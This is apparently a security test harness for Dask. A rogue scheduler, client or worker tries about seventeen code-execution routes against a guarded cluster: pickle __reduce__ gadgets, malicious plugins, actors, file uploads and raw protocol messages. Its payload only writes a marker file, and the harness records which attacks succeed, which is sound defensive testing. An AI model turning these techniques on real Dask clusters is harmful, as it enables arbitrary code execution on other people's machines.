"""
Those who would have a fleet run code of theirs: Dask as it comes, with a certificate that is valid.

Run as a program, apart from the tests: Dask in their process is guarded as that of a fleet is. Each
attack would write the marker file; what it met is one line of JSON.

    python rogue.py scheduler MARKER < ORDER     a scheduler that attacks the worker that joins it
    python rogue.py client MARKER < ORDER        a client that attacks the scheduler of the order
    python rogue.py worker MARKER < ORDER        a worker that answers with code
"""

from __future__ import annotations

import asyncio
import json
import os
import pickle
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from distributed import Actor, Client, Scheduler, Security, Worker, WorkerPlugin
from distributed.comm import connect
from distributed.diagnostics.plugin import SchedulerPlugin
from distributed.protocol import Serialize, ToPickle
from distributed.utils import LoopRunner

MARKER = Path(sys.argv[2] if len(sys.argv) > 2 else "marker")
# What who attacks does to itself is no attack.
SOURCE = f"import os\nif os.getpid() != {os.getpid()}: open({str(MARKER)!r}, 'w').close()\n"


class Evil:
    """Writes the marker when it is read."""

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (SOURCE,)


class EvilWorkerPlugin(WorkerPlugin):  # type: ignore[misc]
    def setup(self, worker: Any) -> None:
        exec(SOURCE)


class EvilSchedulerPlugin(SchedulerPlugin):  # type: ignore[misc]
    async def start(self, scheduler: Any) -> None:
        exec(SOURCE)


class EvilActor:
    def __init__(self) -> None:
        exec(SOURCE)


def evil(*_: object) -> str:
    exec(SOURCE)
    return "done"


def security_of(order: dict[str, Any]) -> Security:
    roles = ("client", "scheduler", "worker")
    return Security(
        require_encryption=True,
        tls_ca_file=order["ca_pem"],
        **{f"tls_{role}_cert": order["certificate_pem"] for role in roles},
        **{f"tls_{role}_key": order["key_pem"] for role in roles},
    )


def attacks(client: Client, address: str | None, raw: str) -> dict[str, Callable[[], Any]]:
    """By name; `address` is of a worker, `raw` whom messages are sent to as they are."""
    security = client.security.get_connection_args("client")

    def message(**what: Any) -> Any:
        async def sent() -> Any:
            comm = await connect(raw, **security)
            try:
                await comm.write(what)
                return await asyncio.wait_for(comm.read(), 3)
            finally:
                comm.abort()

        return client.sync(sent)

    def submit(function: Any, *arguments: Any, **options: Any) -> Any:
        future = client.submit(function, *arguments, pure=False, **options)
        return future.result(timeout=4)

    return {
        "function": lambda: submit(evil),
        "lambda": lambda: submit(lambda: exec(SOURCE)),
        "exec": lambda: submit(exec, SOURCE),
        "argument": lambda: submit(json.loads, Evil()),
        "actor": lambda: submit(EvilActor, actor=True),
        "run": lambda: client.run(evil, workers=[address] if address else None),
        "run on scheduler": lambda: client.run_on_scheduler(evil),
        "worker plugin": lambda: client.register_plugin(EvilWorkerPlugin()),
        "scheduler plugin": lambda: client.register_plugin(EvilSchedulerPlugin()),
        "upload": lambda: client.upload_file(_module()),
        "raw run": lambda: message(op="run", function=pickle.dumps(evil), reply=True),
        "raw plugin": lambda: message(op="plugin-add", plugin=pickle.dumps(Evil()), reply=True),
        "raw feed": lambda: message(op="feed", function=pickle.dumps(Evil()), reply=True),
        "raw pickle": lambda: message(op="identity", it=ToPickle(Evil()), reply=True),
        "raw serialized": lambda: message(op="identity", it=Serialize(Evil()), reply=True),
        "raw upload": lambda: message(
            op="upload_file", filename="evil_upload.py", data=SOURCE.encode(), reply=True
        ),
        "raw actor": lambda: message(
            op="actor_execute", actor="x", function="y", args=[ToPickle(Evil())], reply=True
        ),
    }


def _module() -> str:
    path = MARKER.with_name("evil_module.py")
    path.write_text(SOURCE)
    return str(path)


def tried(all_of_them: dict[str, Callable[[], Any]]) -> dict[str, str]:
    """What became of each; "DONE" is a marker that was written by somebody else than this."""
    found = {}
    for name, attack in all_of_them.items():
        MARKER.unlink(missing_ok=True)
        try:
            answer = repr(attack())[:200]
        except BaseException as error:
            answer = f"{type(error).__name__}: {str(error)[:200]}"
        time.sleep(0.1)
        found[name] = "DONE" if MARKER.exists() else answer
    MARKER.unlink(missing_ok=True)
    return found


def be_scheduler(order: dict[str, Any]) -> None:
    runner = LoopRunner()
    runner.start()
    security = security_of(order)

    async def started() -> Scheduler:
        return await Scheduler(host="127.0.0.1", protocol="tls", security=security, dashboard=False)

    scheduler = runner.run_sync(started)
    print(json.dumps(scheduler.address), flush=True)
    client = Client(scheduler.address, security=security, loop=runner.loop)
    client.wait_for_workers(1, timeout=60)
    (address,) = client.scheduler_info(n_workers=-1)["workers"]
    found = tried(attacks(client, address, address))
    (worker,) = client.scheduler_info(n_workers=-1)["workers"].values()
    future = client.submit(json.loads, '{"job": "dance"}', resources=worker["resources"])
    answer = future.result(timeout=20)
    told = {"attacks": found, "afterwards": answer if isinstance(answer, str) else None}
    print(json.dumps(told), flush=True)
    sys.stdin.read()


def be_client(order: dict[str, Any]) -> None:
    client = Client(order["scheduler"], security=security_of(order))
    print(json.dumps({"attacks": tried(attacks(client, None, order["scheduler"]))}), flush=True)


def be_worker(order: dict[str, Any]) -> None:
    json.loads = lambda *_: Evil()

    async def serve() -> None:
        worker = await Worker(
            order["scheduler"],
            name=order["name"],
            nthreads=1,
            security=security_of(order),
            resources={"benchmark": 1, f"host-{order['name']}": 1, "machine-x": 1},
            metrics={"harness": lambda _: order["hello"]},
            dashboard=False,
        )
        print("{}", flush=True)
        await worker.finished()

    asyncio.run(serve())


if __name__ == "__main__":
    assert Actor
    given = json.loads(sys.stdin.readline())
    {"scheduler": be_scheduler, "client": be_client, "worker": be_worker}[sys.argv[1]](given)
